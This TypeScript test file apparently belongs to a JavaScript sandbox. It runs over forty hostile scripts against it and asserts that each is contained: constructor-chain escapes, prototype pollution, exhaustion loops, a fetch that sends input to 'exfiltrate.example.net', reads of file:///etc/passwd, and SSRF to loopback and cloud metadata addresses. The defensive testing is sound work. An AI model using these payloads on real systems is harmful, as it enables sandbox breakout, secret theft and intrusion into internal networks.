/**
 * The sandbox's security suite: attacks a hostile script (or an AI agent writing one) would try.
 * Every attack must end safely within its limit, must not read a host secret (a canary in
 * process.env), must not touch a host file (a marker path an escape would write), and the SAME
 * Sandbox must then run a normal script correctly.
 */
import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { LookupFn } from './fetch/http-fetch';
import { createMemoryHost } from './memory-host';
import { Sandbox } from './sandbox';
import { request, startServer, type ManifestOverrides, type TestServer } from './spec-helpers';
import type { AttemptResult, HostServices } from './types';

const CANARY = `canary-${randomUUID()}`;
const PWNED = path.join(os.tmpdir(), `mendflow-pwned-${randomUUID()}`);
process.env.MENDFLOW_SECURITY_CANARY = CANARY;

/**
 * Inserted into every attack: given something that might be the host's Function constructor, try to
 * reach process or require, read the canary and write the marker file.
 */
const PRELUDE = `
const PWNED = ${JSON.stringify(PWNED)};
function verdict(proc, req) {
  if (proc && typeof proc === 'object' && proc.env) {
    try { (proc.mainModule ? proc.mainModule.require : req)('fs').writeFileSync(PWNED, 'pwned'); } catch (e) {}
    return 'ESCAPED ' + proc.env.MENDFLOW_SECURITY_CANARY;
  }
  if (typeof req === 'function') { try { req('fs').writeFileSync(PWNED, 'pwned'); } catch (e) {} return 'ESCAPED via require'; }
  return 'contained';
}
function escapeSync(F) {
  try {
    if (typeof F !== 'function') return 'contained: not a function';
    return verdict(F('return typeof process === "undefined" ? undefined : process')(), F('return typeof require === "undefined" ? undefined : require')());
  } catch (e) {
    return 'contained: ' + e.name;
  }
}
// Also for AsyncFunction, GeneratorFunction and AsyncGeneratorFunction constructors.
async function settle(v) {
  if (v && typeof v.next === 'function') {
    const n = v.next();
    v = n && typeof n.then === 'function' ? (await n).value : n.value;
  }
  return await v;
}
async function escape(F) {
  try {
    if (typeof F !== 'function') return 'contained: not a function';
    const proc = await settle(F('return typeof process === "undefined" ? undefined : process')());
    const req = await settle(F('return typeof require === "undefined" ? undefined : require')());
    return verdict(proc, req);
  } catch (e) {
    return 'contained: ' + e.name;
  }
}
`;

function attack(body: string): string {
  return `${PRELUDE}\nexport default async function run(input, ctx) {\n${body}\n}\n`;
}

/** What every standard V8 context has, minus what the bootstrap removes, plus nothing else. */
const EXPECTED_GLOBALS = [
  'AggregateError',
  'Array',
  'ArrayBuffer',
  'AsyncDisposableStack',
  'BigInt',
  'BigInt64Array',
  'BigUint64Array',
  'Boolean',
  'DataView',
  'Date',
  'DisposableStack',
  'Error',
  'EvalError',
  'Float16Array',
  'Float32Array',
  'Float64Array',
  'Function',
  'Infinity',
  'Int16Array',
  'Int32Array',
  'Int8Array',
  'Intl',
  'Iterator',
  'JSON',
  'Map',
  'Math',
  'NaN',
  'Number',
  'Object',
  'Promise',
  'Proxy',
  'RangeError',
  'ReferenceError',
  'Reflect',
  'RegExp',
  'Set',
  'String',
  'SuppressedError',
  'Symbol',
  'SyntaxError',
  'TypeError',
  'URIError',
  'Uint16Array',
  'Uint32Array',
  'Uint8Array',
  'Uint8ClampedArray',
  'WeakMap',
  'WeakSet',
  'console',
  'decodeURI',
  'decodeURIComponent',
  'encodeURI',
  'encodeURIComponent',
  'escape',
  'eval',
  'globalThis',
  'isFinite',
  'isNaN',
  'parseFloat',
  'parseInt',
  'undefined',
  'unescape',
].sort();

let sandbox: Sandbox;
/** For `roomy` attacks: the same sandbox, with CPU and time limits far away. */
let roomy: Sandbox;
let server: TestServer;
const lookups: string[] = [];

const dns: Record<string, string[]> = {
  'private.test': ['10.0.0.5'],
  'loopback.test': ['127.0.0.1'],
  'mapped.test': ['::ffff:127.0.0.1'],
  'v6loop.test': ['::1'],
  'mixed.test': ['93.184.216.34', '127.0.0.1'],
  'metadata.test': ['169.254.169.254'],
};
const lookup: LookupFn = async (hostname) => {
  lookups.push(hostname);
  const answers = dns[hostname];
  if (!answers) throw Object.assign(new Error(`no such host ${hostname}`), { code: 'ENOTFOUND' });
  return answers.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
};

beforeAll(async () => {
  server = await startServer((_req, res) => res.end('{"reached":true}'));
  // No private network, short limits: the configuration an operator should run untrusted code with.
  sandbox = new Sandbox({
    poolSize: 1,
    maxima: { cpuMs: 300, timeoutMs: WALL_LIMIT_MS },
    lookup,
    fetchTimeoutMs: 1000,
  });
  roomy = new Sandbox({
    poolSize: 1,
    maxima: { cpuMs: ROOMY_LIMIT_MS, timeoutMs: ROOMY_LIMIT_MS },
    lookup,
    fetchTimeoutMs: 1000,
  });
});

afterAll(async () => {
  await sandbox.close();
  await roomy.close();
  await server.close();
  expect(existsSync(PWNED)).toBe(false);
});

function hostWithData(): HostServices {
  return createMemoryHost({
    secrets: { DECLARED: 'declared-secret-value', UNDECLARED: 'undeclared-secret-value' },
    kv: { obj: { nested: { list: [1, 2] } }, polluting: JSON.parse('{"__proto__":{"polluted":"from-kv"}}') },
  });
}

function assertSafe(result: AttemptResult): void {
  const everything = JSON.stringify(result);
  expect(everything).not.toContain(CANARY);
  expect(everything).not.toContain('ESCAPED');
  expect(everything).not.toContain('undeclared-secret-value');
  expect(everything).not.toMatch(/node_modules|\/work\/main|isolated-vm\.js/);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect(existsSync(PWNED)).toBe(false);
}

async function assertStillServing(target: Sandbox = sandbox): Promise<void> {
  const result = await target.runAttempt(
    request(
      'export default async function run(input, ctx) { ctx.log.info("ok"); return { n: input.n + 1, t: typeof Date.now() }; }',
      {
        input: { n: 1 },
      },
    ),
  );
  expect(result).toMatchObject({ status: 'succeeded', output: { n: 2, t: 'number' } });
}

interface Attack {
  name: string;
  source: string;
  options?: ManifestOverrides & { input?: unknown };
  check: (result: AttemptResult) => void;
  /**
   * An attack another limit must end (memory, result size) that burns real CPU time getting there
   * (allocating, collecting garbage, serializing): it runs where the CPU and time limits are far
   * away, so the intended limit ends it however loaded the machine is.
   */
  roomy?: true;
}

/**
 * No attack may outlive the attempt's wall-clock limit by more than a grace that holds on a loaded
 * machine. Which limit stopped an attack, and how, is what each check asserts: that is deterministic,
 * where "stopped within N ms" only measures how busy the machine is.
 */
const WALL_LIMIT_MS = 3000;
const ROOMY_LIMIT_MS = 20_000;
const GRACE_MS = 10_000;

const contained = (result: AttemptResult) => {
  expect(result.status).toBe('succeeded');
  const values = JSON.stringify(result.output);
  expect(values).toMatch(/contained/);
};
const endedBy = (limit: string, code?: string) => (result: AttemptResult) => {
  expect(result.status).toBe('failed');
  expect(result.error).toMatchObject({ limit, ...(code ? { code } : {}) });
};
/** Ended by one of several limits, whichever the machine's speed made come first; each is correct. */
const endedByOneOf =
  (...limits: string[]) =>
  (result: AttemptResult) => {
    expect(result.status).toBe('failed');
    expect(limits, `ended by ${result.error?.limit}: ${result.error?.message}`).toContain(
      result.error?.limit,
    );
    expect(result.error?.message).toMatch(
      /more than \d+ (host calls|ms of CPU time)|still running \(not waiting on a host call\)/,
    );
  };
const failsWith = (name: string | RegExp, message?: RegExp) => (result: AttemptResult) => {
  expect(result.status).toBe('failed');
  expect(result.error?.name).toMatch(name);
  if (message) expect(result.error?.message).toMatch(message);
};

const ATTACKS: Attack[] = [
  // ---- constructor chains -------------------------------------------------------------------------
  {
    name: 'Function from the input object',
    source: attack('return escape(input.constructor.constructor);'),
    check: contained,
  },
  {
    name: 'Function from an input array',
    source: attack('return escape(input.list.constructor.constructor);'),
    options: { input: { list: [1] } },
    check: contained,
  },
  {
    name: 'Function via __proto__ of input',
    source: attack('return escape(input.__proto__.constructor.constructor);'),
    check: contained,
  },
  {
    name: 'Function from ctx.fetch',
    source: attack('return escape(ctx.fetch.constructor);'),
    check: contained,
  },
  {
    name: 'Function from ctx.secrets.get and ctx.log.info',
    source: attack(
      'return Promise.all([escape(ctx.secrets.get.constructor), escape(ctx.log.info.constructor)]);',
    ),
    check: contained,
  },
  {
    name: 'Function from ctx itself',
    source: attack('return escape(ctx.constructor.constructor);'),
    check: contained,
  },
  {
    name: 'Function from ctx.errors classes',
    source: attack(
      'return Promise.all([escape(ctx.errors.TransientError.constructor), escape(Object.getPrototypeOf(ctx.errors.AuthError).constructor)]);',
    ),
    check: contained,
  },
  {
    name: 'Function from a tool result (kv value)',
    source: attack(
      `const v = await ctx.kv.get('obj'); return [await escape(v.constructor.constructor), await escape(v.nested.list.constructor.constructor), v.constructor === Object];`,
    ),
    check: (r) => {
      contained(r);
      expect((r.output as unknown[])[2]).toBe(true);
    },
  },
  {
    name: 'Function from a host error (network failure)',
    source: attack(
      `try { await ctx.fetch('http://nowhere.test/'); } catch (e) { return [await escape(e.constructor.constructor), e.constructor === Error, String(e.stack)]; }`,
    ),
    options: { hosts: ['nowhere.test'] },
    check: (r) => {
      contained(r);
      const [, sameRealm, stack] = r.output as [string, boolean, string];
      expect(sameRealm).toBe(true);
      expect(stack).not.toMatch(/node:|\.ts:|\/work\//);
    },
  },
  {
    name: 'Function from a promise returned by ctx',
    source: attack(
      `const p = ctx.kv.get('x'); await p; return Promise.all([escape(p.constructor.constructor), escape(p.then.constructor)]);`,
    ),
    check: contained,
  },
  {
    name: 'AsyncFunction from a Response method',
    source: attack(
      `const res = { text: ctx.fetch }; return Promise.all([escape(Object.getPrototypeOf(async () => {}).constructor), escape(res.text.constructor), escape(ctx.step.constructor)]);`,
    ),
    check: contained,
  },
  {
    name: 'AsyncGeneratorFunction and async iteration',
    source: attack(`
      const AGF = (async function* () {}).constructor;
      const gen = AGF('yield typeof process; yield typeof require; yield typeof this.process')();
      const seen = [];
      for await (const v of gen) seen.push(String(v));
      return ['contained', ...seen, await escape(AGF)];
    `),
    check: (r) => expect(r.output).toEqual(['contained', 'undefined', 'undefined', 'undefined', 'contained']),
  },
  {
    name: 'Generator and iterator prototypes',
    source: attack(
      `return Promise.all([escape([].values().constructor.constructor), escape((function* () {})().constructor), escape(Object.getPrototypeOf(function* () {}).constructor)]);`,
    ),
    check: contained,
  },
  {
    name: 'no host globals: process, require, Buffer, timers, WebAssembly, SharedArrayBuffer',
    source: attack(`return Object.getOwnPropertyNames(globalThis).sort();`),
    check: (r) => expect(r.output).toEqual(EXPECTED_GLOBALS),
  },
  {
    name: 'caller chains from sloppy functions called by the sandbox',
    source: attack(`
      const sloppy = Function('return arguments.callee.caller === null ? "contained" : "LEAK " + typeof arguments.callee.caller');
      const stepped = await ctx.step('sloppy', sloppy);
      return { stepped, viaToJSON: { toJSON: sloppy } };
    `),
    check: (r) => expect(r.output).toEqual({ stepped: 'contained', viaToJSON: 'contained' }),
  },
  {
    name: 'dynamic import of host modules',
    source: attack(
      `try { await import('node:fs'); return 'ESCAPED import'; } catch (e) { return 'contained: ' + e.message; }`,
    ),
    check: contained,
  },
  // ---- stack traces -------------------------------------------------------------------------------
  {
    name: 'Error.prepareStackTrace call sites inside sandbox code',
    source: attack(`
      const found = [];
      Error.prepareStackTrace = (err, sites) => {
        for (const s of sites) found.push([typeof s.getThis(), typeof s.getFunction(), String(s.getFileName())]);
        for (const s of sites) if (typeof s.getFunction() === 'function') found.push(escapeSync(s.getFunction().constructor));
        return 'custom';
      };
      try { await ctx.kv.get(''); } catch (e) { void e.stack; }
      await ctx.kv.get('k').then(() => new Error('x').stack);
      const files = [...new Set(found.filter(Array.isArray).map((f) => f[2]))];
      return { files, leaks: found.filter((f) => Array.isArray(f) && f[0] !== 'undefined' && f[2] !== 'script.js'), escapes: found.filter((f) => typeof f === 'string') };
    `),
    check: (r) => {
      const out = r.output as { files: string[]; leaks: unknown[]; escapes: string[] };
      expect(out.leaks).toEqual([]);
      expect(out.escapes.every((e) => e.startsWith('contained'))).toBe(true);
      expect(
        out.files.every((f) => f === 'script.js' || f === 'mendflow:bootstrap' || f === 'undefined'),
      ).toBe(true);
    },
  },
  {
    name: 'Error.captureStackTrace from inside the serializer',
    source: attack(`return { toJSON() { const o = {}; Error.captureStackTrace(o); return o.stack; } };`),
    check: (r) => {
      expect(r.status).toBe('succeeded');
      expect(String(r.output)).not.toMatch(/node:|\/work\/|\.ts:/);
    },
  },
  // ---- proxies, species, thenables, getters --------------------------------------------------------
  {
    name: 'Proxy as the returned value',
    source: attack(
      `return new Proxy({}, { ownKeys: () => ['a', 'b'], getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }), get: (t, k) => k === 'toJSON' ? undefined : escapeSync(Function) });`,
    ),
    check: (r) => expect(r.output).toEqual({ a: 'contained', b: 'contained' }),
  },
  {
    name: 'Proxy with a trap that never returns',
    source: attack(`return new Proxy({}, { ownKeys() { for (;;) {} } });`),
    check: endedBy('cpu'),
  },
  {
    name: 'Proxy and getters passed as fetch init',
    source: attack(`
      const init = new Proxy({}, { get(t, k) { return k === 'headers' ? { get evil() { return escapeSync(Function); } } : undefined; } });
      try { await ctx.fetch('http://nowhere.test/', init); } catch (e) { return 'contained: ' + e.code; }
    `),
    options: { hosts: ['nowhere.test'] },
    check: contained,
  },
  {
    name: 'Symbol.species on a returned Promise subclass',
    source: attack(`
      class Evil extends Promise { static get [Symbol.species]() { return Promise; } then(ok, err) { return super.then(() => ok(escapeSync(Function)), err); } }
      return Evil.resolve(1);
    `),
    check: contained,
  },
  {
    name: 'Symbol.species on arrays in the result',
    source: attack(
      `class Weird extends Array { static get [Symbol.species]() { return function () { return { toJSON: () => escapeSync(Function) }; }; } } const w = Weird.from([1, 2]); return { w, mapped: w.map((x) => x) };`,
    ),
    check: (r) => expect(r.output).toEqual({ w: [1, 2], mapped: 'contained' }),
  },
  {
    name: 'a thenable as the result',
    source: attack(`return { then(resolve) { resolve(escapeSync(this.constructor.constructor)); } };`),
    check: contained,
  },
  {
    name: 'a thenable that never calls back',
    source: attack(`return { then() {} };`),
    check: endedBy('timeout', 'NEVER_SETTLED'),
  },
  {
    name: 'getters in the returned value',
    source: attack(`return { get x() { return escapeSync(Function); } };`),
    check: (r) => expect(r.output).toEqual({ x: 'contained' }),
  },
  {
    name: 'a getter that throws while the result is serialized',
    source: attack(`return { get x() { throw new TypeError('getter says no'); } };`),
    check: failsWith('TypeError', /getter says no/),
  },
  {
    name: 'patched Promise.prototype.then and Function.prototype.call to capture sandbox internals',
    source: attack(`
      const captured = [];
      const then = Promise.prototype.then;
      Promise.prototype.then = function (a, b) { captured.push(a, b, this); return then.call(this, a, b); };
      const call = Function.prototype.call;
      Function.prototype.call = function (...args) { captured.push(this, ...args); return Reflect.apply(this, args[0], args.slice(1)); };
      Object.defineProperty(Array.prototype, '0', { set(v) { captured.push(v); }, configurable: true });
      await ctx.kv.set('k', { a: 1 });
      await ctx.kv.get('k');
      delete Array.prototype[0];
      const verdicts = await Promise.all(captured.filter((c) => typeof c === 'function').map((f) => escape(f.constructor)));
      return ['contained', ...new Set(verdicts)];
    `),
    check: (r) => expect((r.output as string[]).every((v) => v.startsWith('contained'))).toBe(true),
  },
  {
    name: 'every object made thenable through Object.prototype',
    source: attack(
      `Object.defineProperty(Object.prototype, 'then', { get() { return undefined; }, configurable: true }); const v = await ctx.kv.get('obj'); delete Object.prototype.then; return escape(v.constructor.constructor);`,
    ),
    check: contained,
  },
  // ---- prototype pollution ------------------------------------------------------------------------
  {
    name: 'prototype pollution through input',
    source: attack(
      `return { polluted: ({}).polluted ?? null, own: Object.hasOwn(input, '__proto__'), viaCtor: ({}).alsoPolluted ?? null };`,
    ),
    options: {
      input: JSON.parse(
        '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"alsoPolluted":"yes"}}}',
      ),
    },
    check: (r) => expect(r.output).toEqual({ polluted: null, own: true, viaCtor: null }),
  },
  {
    name: 'prototype pollution through tool results',
    source: attack(
      `const v = await ctx.kv.get('polluting'); return { polluted: ({}).polluted ?? null, own: Object.hasOwn(v, '__proto__') };`,
    ),
    check: (r) => expect(r.output).toEqual({ polluted: null, own: true }),
  },
  {
    name: 'prototype pollution of the host through the result',
    source: attack(`return JSON.parse('{"__proto__":{"polluted":"host"},"ok":1}');`),
    check: (r) => {
      expect(r.status).toBe('succeeded');
      expect(Object.getPrototypeOf(r.output)).toBe(Object.prototype);
      expect((r.output as Record<string, unknown>).ok).toBe(1);
    },
  },
  // ---- secrets and hosts --------------------------------------------------------------------------
  {
    name: 'an undeclared secret',
    source: attack(`try { return await ctx.secrets.get('UNDECLARED'); } catch (e) { return e.code; }`),
    options: { secrets: ['DECLARED'] },
    check: failsWith('PolicyError', /"UNDECLARED" is not declared/),
  },
  {
    name: 'an undeclared host',
    source: attack(
      `const r = await ctx.fetch('https://exfiltrate.example.net/?d=' + input.x); return r.status;`,
    ),
    options: { hosts: ['api.example.com'], input: { x: 1 } },
    check: failsWith('PolicyError', /exfiltrate\.example\.net is not allowed/),
  },
  {
    name: 'non-http schemes (file:, data:)',
    source: attack(
      `const codes = []; for (const u of ['file:///etc/passwd', 'data:text/plain,hi']) { try { await ctx.fetch(u); } catch (e) { codes.push(e.code); } } return codes;`,
    ),
    check: failsWith('PolicyError', /only speaks http and https/),
  },
  // ---- exhaustion ---------------------------------------------------------------------------------
  { name: 'an infinite loop', source: attack('for (;;) {}'), check: endedBy('cpu') },
  // V8 13.6 loses TerminateExecution in loops running in OSR-compiled code (see SandboxOptions.hardenV8).
  {
    name: 'a hot loop V8 compiles on the stack (OSR)',
    source: attack('for (;;) { const a = new Array(1000); a.length; }'),
    check: endedBy('cpu'),
  },
  {
    name: 'a loop inside an optimized function',
    source: attack(
      'function g(n) { for (let i = 0; i < n; i++) new Array(1000).fill(1).indexOf(3); } for (let k = 0; k < 5000; k++) g(3); g(1e12);',
    ),
    check: endedBy('cpu'),
  },
  {
    name: 'a loop that catches the timeout',
    source: attack('for (;;) { try { for (;;) {} } catch (e) {} finally { continue; } }'),
    check: endedBy('cpu'),
  },
  {
    name: 'a microtask flood',
    source: attack('function f() { Promise.resolve().then(f); } f(); await new Promise(() => {});'),
    check: endedBy('cpu'),
  },
  { name: 'an await loop', source: attack('for (;;) await null;'), check: endedBy('cpu') },
  {
    name: 'a microtask flood left running after returning',
    source: attack('(async () => { for (;;) await null; })(); return "done";'),
    check: endedBy('cpu'),
  },
  {
    name: 'a microtask flood started by top-level code that then throws',
    source: `(async () => { for (;;) await null; })();\nthrow new Error('loaded');\nexport default () => 1;`,
    check: endedBy('cpu'),
  },
  {
    name: 'a never-settling promise',
    source: attack('await new Promise(() => {});'),
    check: endedBy('timeout', 'NEVER_SETTLED'),
  },
  {
    name: 'memory growth',
    source: attack('const keep = []; for (;;) keep.push(new Array(1000).fill(Math.random()));'),
    options: { limits: { memoryMb: 16 } },
    check: endedBy('memory', 'MEMORY_LIMIT'),
    roomy: true,
  },
  {
    name: 'string doubling',
    source: attack('let s = "x"; const keep = []; for (;;) { s = s + s; keep.push(s.slice(1)); }'),
    options: { limits: { memoryMb: 16 } },
    check: (r) => {
      expect(r.status).toBe('failed');
      expect(r.error?.limit === 'memory' || r.error?.name === 'RangeError').toBe(true);
    },
    roomy: true,
  },
  {
    name: 'a huge ArrayBuffer',
    source: attack('const b = new ArrayBuffer(2 ** 31); return b.byteLength;'),
    options: { limits: { memoryMb: 16 } },
    check: failsWith('RangeError'),
  },
  {
    name: 'WebAssembly memory growth',
    source: attack('const m = new WebAssembly.Memory({ initial: 1, maximum: 65536 }); for (;;) m.grow(100);'),
    check: failsWith('ReferenceError', /WebAssembly is not defined/),
  },
  {
    name: 'WebAssembly loops compiled from bytes',
    source: attack(
      'const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]); await WebAssembly.instantiate(bytes);',
    ),
    check: failsWith('ReferenceError', /WebAssembly is not defined/),
  },
  {
    name: 'Atomics.wait on a SharedArrayBuffer',
    source: attack('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);'),
    check: failsWith('ReferenceError', /Atomics is not defined/),
  },
  {
    name: 'GC-observing WeakRef and FinalizationRegistry',
    source: attack('new FinalizationRegistry(() => { for (;;) {} }).register({}, 1);'),
    check: failsWith('ReferenceError', /FinalizationRegistry is not defined/),
  },
  {
    name: 'catastrophic regex backtracking (ReDoS)',
    source: attack('return /^(a+)+$/.test("a".repeat(40) + "b");'),
    check: endedBy('cpu'),
  },
  {
    name: 'deep recursion',
    source: attack('const f = (n) => f(n + 1) + 1; return f(0);'),
    check: failsWith('RangeError', /call stack/),
  },
  {
    name: 'a huge output',
    source: attack('return { rows: Array.from({ length: 1e5 }, (_, i) => ({ i, pad: "x".repeat(20) })) };'),
    options: { limits: { maxResultBytes: 65536, memoryMb: 128 } },
    check: endedBy('result', 'RESULT_LIMIT'),
    roomy: true,
  },
  {
    name: 'a console flood',
    source: attack('for (;;) console.log("flood", Math.random());'),
    options: { limits: { maxLogBytes: 8192 } },
    check: endedBy('log', 'LOG_LIMIT'),
  },
  {
    name: 'a flood of host calls',
    source: attack('for (;;) { ctx.kv.get("k"); ctx.log.debug(""); if (Math.random() < 0) break; } '),
    check: (r) => expect(r.status).toBe('failed'),
  },
  {
    // Every awaited call costs the isolate some CPU time, so whether the host-call limit or the CPU
    // limit comes first depends on the machine's load (sandbox.spec "bounds host calls" tests the
    // host-call limit alone, deterministically).
    name: 'a flood of awaited host calls',
    source: attack('for (;;) await ctx.kv.get("k");'),
    check: endedByOneOf('host_calls', 'cpu'),
  },
];

describe('security: escapes, tricks and exhaustion', () => {
  it('has at least 40 distinct attacks', () => {
    expect(new Set(ATTACKS.map((a) => a.name)).size).toBe(ATTACKS.length);
    expect(ATTACKS.length).toBeGreaterThanOrEqual(40);
  });

  for (const { name, source, options, check, roomy: far } of ATTACKS) {
    const target = () => (far ? roomy : sandbox);
    const stoppedWithinMs = (far ? ROOMY_LIMIT_MS : WALL_LIMIT_MS) + GRACE_MS;
    it(name, { timeout: stoppedWithinMs + 15_000 }, async () => {
      const started = Date.now();
      const result = await target().runAttempt(request(source, { host: hostWithData(), ...options }));
      check(result);
      assertSafe(result);
      expect(Date.now() - started).toBeLessThan(stoppedWithinMs);
      await assertStillServing(target());
    });
  }
});

describe('security: SSRF', () => {
  const ssrf = (url: string) =>
    attack(
      `try { const r = await ctx.fetch(${JSON.stringify(url)}); return 'REACHED ' + r.status; } catch (e) { return e.code; }`,
    );

  it.each([
    ['loopback by IP', () => `http://127.0.0.1:${server.port}/`, 'PRIVATE_ADDRESS'],
    ['loopback in decimal', () => `http://2130706433:${server.port}/`, 'PRIVATE_ADDRESS'],
    ['loopback in hex', () => `http://0x7f000001:${server.port}/`, 'PRIVATE_ADDRESS'],
    ['loopback in octal', () => `http://0177.0.0.1:${server.port}/`, 'PRIVATE_ADDRESS'],
    ['loopback in short form', () => `http://127.1:${server.port}/`, 'PRIVATE_ADDRESS'],
    ['cloud metadata', () => 'http://169.254.169.254/latest/meta-data/', 'PRIVATE_ADDRESS'],
    ['IPv6 loopback literal', () => `http://[::1]:${server.port}/`, 'HOST_NOT_ALLOWED'],
    ['IPv4-mapped IPv6 literal', () => `http://[::ffff:127.0.0.1]:${server.port}/`, 'HOST_NOT_ALLOWED'],
    ['a name resolving to a private address', () => `http://private.test:${server.port}/`, 'PRIVATE_ADDRESS'],
    ['a name resolving to loopback', () => `http://loopback.test:${server.port}/`, 'PRIVATE_ADDRESS'],
    [
      'a name resolving to IPv4-mapped loopback',
      () => `http://mapped.test:${server.port}/`,
      'PRIVATE_ADDRESS',
    ],
    ['a name resolving to ::1', () => `http://v6loop.test:${server.port}/`, 'PRIVATE_ADDRESS'],
    [
      'a name resolving to public and private addresses',
      () => `http://mixed.test:${server.port}/`,
      'PRIVATE_ADDRESS',
    ],
    ['a name resolving to the metadata address', () => 'http://metadata.test/', 'PRIVATE_ADDRESS'],
  ])('refuses %s', async (_label, url, code) => {
    const hits = server.hits.length;
    const port = server.port;
    const hosts = [
      '127.0.0.1',
      `127.0.0.1:${port}`,
      '169.254.169.254',
      ...Object.keys(dns).flatMap((h) => [h, `${h}:${port}`]),
    ];
    const result = await sandbox.runAttempt(request(ssrf(url()), { hosts }));
    expect(result.status).toBe('failed');
    expect(result.error).toMatchObject({ name: 'PolicyError', code });
    expect(JSON.stringify(result)).not.toContain('REACHED');
    expect(server.hits.length).toBe(hits);
    assertSafe(result);
    await assertStillServing();
  });

  describe('redirects and DNS rebinding', () => {
    let inner: TestServer;
    let front: TestServer;
    let trusted: Sandbox;
    let permissive: Sandbox;
    let frontLookups = 0;

    beforeAll(async () => {
      // "inner" stands for a private service (bound to 127.0.0.2, another loopback address). "front"
      // stands for a public host: 127.0.0.1 is made reachable only through trustedAddresses, exactly
      // as an operator would trust one internal API, so the first hop is allowed and every other
      // private address stays refused.
      inner = await startServerOn('127.0.0.2');
      front = await startServer((req, res) => {
        const target = new URL(req.url ?? '/', 'http://x').searchParams.get('to') ?? '';
        res.statusCode = 302;
        res.setHeader('location', target);
        res.end();
      });
      const redirectLookup: LookupFn = async (hostname) => {
        if (hostname === 'front.test') {
          frontLookups++;
          // A rebinding resolver: the first answer passes the policy, every later one is private.
          return [{ address: frontLookups === 1 ? '127.0.0.1' : '127.0.0.2', family: 4 }];
        }
        if (hostname === 'inner.test') return [{ address: '127.0.0.2', family: 4 }];
        if (hostname === 'metadata.test') return [{ address: '169.254.169.254', family: 4 }];
        throw Object.assign(new Error('nx'), { code: 'ENOTFOUND' });
      };
      trusted = new Sandbox({
        poolSize: 1,
        trustedAddresses: ['127.0.0.1'],
        lookup: redirectLookup,
        fetchTimeoutMs: 1000,
      });
      permissive = new Sandbox({
        poolSize: 1,
        allowPrivateNetwork: true,
        lookup: redirectLookup,
        fetchTimeoutMs: 1000,
      });
    });

    afterAll(async () => {
      await trusted.close();
      await permissive.close();
      await inner.close();
      await front.close();
    });

    const hosts = () => [
      `front.test:${front.port}`,
      `inner.test:${inner.port}`,
      'metadata.test',
      `127.0.0.2:${inner.port}`,
    ];
    const via = (target: string) => `http://front.test:${front.port}/?to=${encodeURIComponent(target)}`;

    beforeEach(() => {
      frontLookups = 0;
    });

    it('the control: with private networks allowed, the redirect does reach the inner service', async () => {
      const result = await permissive.runAttempt(
        request(ssrf(via(`http://inner.test:${inner.port}/admin`)), { hosts: hosts() }),
      );
      expect(result.output).toBe('REACHED 200');
      expect(inner.hits).toContain('GET /admin');
      inner.hits.length = 0;
    });

    it.each([
      ['a private name', () => `http://inner.test:${inner.port}/admin`, 'PRIVATE_ADDRESS'],
      ['a private IP', () => `http://127.0.0.2:${inner.port}/admin`, 'PRIVATE_ADDRESS'],
      ['the metadata service', () => 'http://metadata.test/latest/meta-data/', 'PRIVATE_ADDRESS'],
      ['a host outside the manifest', () => 'http://elsewhere.example.org/', 'HOST_NOT_ALLOWED'],
    ])('refuses a redirect from an allowed host to %s', async (_label, target, code) => {
      const result = await trusted.runAttempt(request(ssrf(via(target())), { hosts: hosts() }));
      expect(result.error).toMatchObject({ code });
      expect(front.hits.length).toBeGreaterThan(0);
      expect(inner.hits).toEqual([]);
      assertSafe(result);
      await assertStillServing(trusted);
    });

    it('connects to the address it vetted, so a rebinding resolver cannot redirect the connection', async () => {
      const frontHits = front.hits.length;
      const result = await trusted.runAttempt(
        request(ssrf(`http://front.test:${front.port}/?to=`), { hosts: hosts() }),
      );
      // The empty Location resolves to the same URL: the second hop looks front.test up again, gets the
      // private answer, and is refused; the first hop went to the vetted 127.0.0.1.
      expect(result.error).toMatchObject({ code: 'PRIVATE_ADDRESS' });
      expect(front.hits.length).toBe(frontHits + 1);
      expect(frontLookups).toBe(2);
      expect(inner.hits).toEqual([]);
    });

    it('even with private networks allowed, never follows a redirect to cloud metadata', async () => {
      const result = await permissive.runAttempt(
        request(ssrf(via('http://metadata.test/latest/meta-data/')), { hosts: hosts() }),
      );
      expect(result.error).toMatchObject({ code: 'PRIVATE_ADDRESS' });
      expect(result.error?.message).toMatch(/cloud metadata/);
    });
  });
});

async function startServerOn(host: string): Promise<TestServer> {
  const http = await import('node:http');
  const hits: string[] = [];
  const srv = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.end('inner');
  });
  await new Promise<void>((resolve) => srv.listen(0, host, resolve));
  const port = (srv.address() as { port: number }).port;
  return {
    port,
    url: `http://${host}:${port}`,
    hits,
    close: () =>
      new Promise<void>((resolve) => {
        srv.closeAllConnections();
        srv.close(() => resolve());
      }),
  };
}
